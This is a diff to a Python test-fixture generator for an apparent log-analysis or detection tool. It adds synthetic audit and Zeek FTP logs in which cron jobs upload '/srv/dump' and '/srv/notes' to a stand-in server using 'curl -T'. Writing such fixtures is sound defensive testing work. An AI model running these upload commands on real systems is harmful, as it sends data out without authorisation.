@@ -4,6 +4,7 @@ and read the diff. Cases that are not here were written by hand."""
 import io
 import json
 import pathlib
+import re
 import sys
 import tarfile
 
@@ -117,6 +118,39 @@ def flows_of_nobody():
                              "443\ttcp\tssl\t4.5\t70000000\t52000\tSF\t0\tShADadFf\t50005\t"
                              "72600260\t25002\t1352104\n")
     return made
+
+
+def two_at_once():
+    """A pile with a host's log, and what Zeek saw: two jobs sent to one ftp server at the same time,
+    and ftp.log tells which data connection is whose."""
+    story = Story()
+    for number, what in enumerate(("/srv/dump", "/srv/notes")):
+        shell = story.cron_job(f"curl -T {what} ftp://203.0.113.55/", pid=700 + 10 * number)
+        shell.fork(705 + 10 * number).exec(
+            "/usr/bin/curl", "curl", "-T", what, "ftp://203.0.113.55/").connect(
+                5, "203.0.113.55", 21)
+    text = without(story, 3)
+    first, second = (float(re.search(r"audit\(([\d.]+):", line)[1])
+                     for line in text.splitlines() if " syscall=42 " in line)
+    head = "#separator \\x09\n#path\t{}\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\t"
+    conn = head.format("conn") + ("proto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\t"
+                                  "missed_bytes\thistory\torig_pkts\torig_ip_bytes\tresp_pkts\t"
+                                  "resp_ip_bytes\n")
+    for uid, time, own, port, sent, service, took in (
+            ("CA", first + 0.01, 40001, 21, 92, "ftp", 20), ("CB", second + 0.01, 40002, 21, 95, "ftp", 20),
+            ("CC", second + 1.5, 40003, 50001, 130_000_000, "ftp-data", 17),
+            ("CD", second + 1.6, 40004, 50002, 70_000, "ftp-data", 15)):
+        packets = sent // 1400 + 5
+        conn += (f"{time + 3.25:.6f}\t{uid}\t10.20.0.5\t{own}\t203.0.113.55\t{port}\ttcp\t{service}\t"
+                 f"{took}.5\t{sent}\t310\tSF\t0\tShADadFf\t{packets}\t{sent + 52 * packets}\t"
+                 f"{packets // 2}\t{310 + 26 * packets}\n")
+    ftp = head.format("ftp") + ("user\tcommand\targ\tdata_channel.passive\tdata_channel.orig_h\t"
+                                "data_channel.resp_h\tdata_channel.resp_p\tfuid\n")
+    for uid, own, time, port in (("CA", 40001, second + 1.45, 50001), ("CB", 40002, second + 1.5, 50002)):
+        ends = f"{uid}\t10.20.0.5\t{own}\t203.0.113.55\t21\tanonymous"
+        ftp += (f"{time + 3.25:.6f}\t{ends}\tEPSV\t-\tT\t10.20.0.5\t203.0.113.55\t{port}\t-\n"
+                f"{time + 3.3:.6f}\t{ends}\tSTOR\tftp://203.0.113.55/x\t-\t-\t-\t-\tF{uid}\n")
+    return {"pile/etl-01/audit.log": text, "pile/zeek/conn.log": conn, "pile/zeek/ftp.log": ftp}
 
 
 def no_rules_at_all():
@@ -621,6 +655,7 @@ LOGS = {"judge-keys": signs_of_techniques, "scan-argv-peers": argv_peers, "scan-
         "scan-flows": bytes_by_flows, "transfers-flows": bytes_by_flows,
         "coverage-flows": bytes_by_flows,
         "scan-unseen-flow": flows_of_nobody, "coverage-unseen-flow": flows_of_nobody,
+        "transfers-flows-found": two_at_once, "explain-flows": two_at_once,
         "scan-no-bytes": many_jobs_without_bytes, "scan-no-bytes-all": many_jobs_without_bytes,
         "scan-blind-nothing-sent": nothing_sent, "scan-hostile": hostile,
         "scan-begins-late": begins_late,
